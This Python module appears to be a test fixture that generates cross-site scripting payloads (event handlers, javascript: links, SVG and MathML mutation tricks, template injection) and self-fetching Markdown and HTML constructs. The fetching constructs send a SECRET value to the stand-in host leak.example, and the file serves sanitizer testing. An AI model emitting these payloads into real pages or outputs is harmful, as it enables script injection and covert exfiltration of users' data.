"""Hostile text for the page: what runs a script where it is taken for markup, and what makes a browser fetch something.

Written from the classes that the published cheat sheets and advisories describe (event handlers, mutation through foreign
content, links, reference-style images, CSS, SVG, proxies), each with a canary of its own: ``pwned(...)`` for scripts, the
host ``leak.example`` for requests.
"""

from __future__ import annotations

import html
from itertools import product

RUN = "pwned(1)"
FAR = "https://leak.example/c"

HTML = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={FAR}.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img src=x\nonerror\n=\n{RUN}>",
    f"<img src=x\tonerror={RUN}\t>",
    f"<img src=`x` onerror=`{RUN}`>",
    f"<img src=x:x onerror={RUN} //",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={RUN} attributeName=x></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe onload={RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<video onerror={RUN}><source></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<input autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<div tabindex=1 autofocus onfocus={RUN}>x</div>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<title><p title='</title><img src=x onerror={RUN}>'></title>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"</p></div></li><img src=x onerror={RUN}>",
    f"<base href='javascript:{RUN}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
]

# The places of Markdown where a renderer meets markup.
AROUND = [
    "{}", "**{}**", "> - {}", "# {}", "| a | `b` |\n|---|---|\n| {} | c |", "![{}](x.png)", "[{}](https://docs.example/)",
]  # fmt: skip

LINKS = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}", f"&#106;avascript:{RUN}", f"javascript&colon;{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    f"javascript://x.example/%0a{RUN}", f"view-source:javascript:{RUN}", f"blob:javascript:{RUN}",
]  # fmt: skip
LINKED = ["[x]({})", "[1]({})", "<{}>", "[x][r]\n\n[r]: {}", '[x]({} "t")', "![x]({})"]

OTHER = [
    f'" onmouseover="{RUN}" x="', f"' onfocus='{RUN}' autofocus x='", f"'\"><script>{RUN}</script>",
    f"--></style></script><script>{RUN}</script>", f"${{{RUN}}}", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"[x](https://docs.example/ \"t\" onmouseover='{RUN}')", f"```html\"><img src=x onerror={RUN}>\nx\n```",
    f"[x](https://docs.example/\" onclick=\"{RUN})", f"<https://docs.example/\"onclick=\"{RUN}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$", f"$$\\htmlData{{x=y}}{{<img src=x onerror={RUN}>}}$$",
    "__proto__", "constructor", "[object Object]", f"\u202e<img src=x onerror={RUN}>", f"\ufeff<svg onload={RUN}>",
]  # fmt: skip

# What a browser fetches by itself, or what a person would follow without seeing where it leads.
FETCHED = [
    "![x]({url})",
    "![]({url})",
    '![x]({url} "t")',
    "![x](<{url}>)",
    "[![x]({url})](https://docs.example/)",
    "![x][r]\n\n[r]: {url}",
    "![x][]\n\n[x]: {url}",
    "![x]\n\n[x]: {url}",
    "[x][r]\n\n[r]: {url}",
    "<img src='{url}'>",
    "<img srcset='{url} 1x'>",
    "<picture><source srcset='{url}'><img src=x></picture>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<link rel=preconnect href='{url}'>",
    "<link rel=dns-prefetch href='{url}'>",
    "<style>@import '{url}';</style>",
    "<p style='background:url({url})'>x</p>",
    "<style>*{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:x;src:url({url})}}*{{font-family:x}}</style>",
    "<iframe src='{url}'></iframe>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<video poster='{url}'></video>",
    "<video src='{url}'></video>",
    "<audio src='{url}' autoplay></audio>",
    "<input type=image src='{url}'>",
    "<svg><image href='{url}'/></svg>",
    "<svg><use href='{url}#x'/></svg>",
    "<svg><filter><feImage href='{url}'/></filter></svg>",
    "<table background='{url}'><tr><td>x</td></tr></table>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}'>",
    "<script src='{url}'></script>",
    "[x]({url})",
    "<{url}>",
    "{url}",
    "<a href='https://docs.example/' ping='{url}'>x</a>",
    "$\\includegraphics{{{url}}}$",
    "> ![x]({url})",
    "- ![x]({url})",
    "| a |\n|---|\n| ![x]({url}) |",
    "# ![x]({url})",
]
ADDRESSES = [
    FAR + ".png?d=SECRET",
    "//leak.example/c.png?d=SECRET",
    "https://SECRET.leak.example/",
    "https://user:SECRET@leak.example/x",
    "https://teams.example/urlp/v1/url/content?url=https%3A%2F%2Fleak.example%2Fc.png&v=1",
    "/v1/documents/leak?d=SECRET",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://leak.example/c'/></svg>",
]


def scripts() -> list[str]:
    """Every payload that wants to run, each once."""
    markup = [around.replace("{}", snippet) for snippet, around in product(HTML, AROUND)]
    escaped = [html.escape(snippet) for snippet in HTML]
    links = [place.replace("{}", address) for address, place in product(LINKS, LINKED)]
    return list(dict.fromkeys([*markup, *escaped, *links, *OTHER]))


def leaks() -> list[str]:
    """Every payload that wants to fetch, each once."""
    return list(dict.fromkeys(place.format(url=url) for place, url in product(FETCHED, ADDRESSES)))
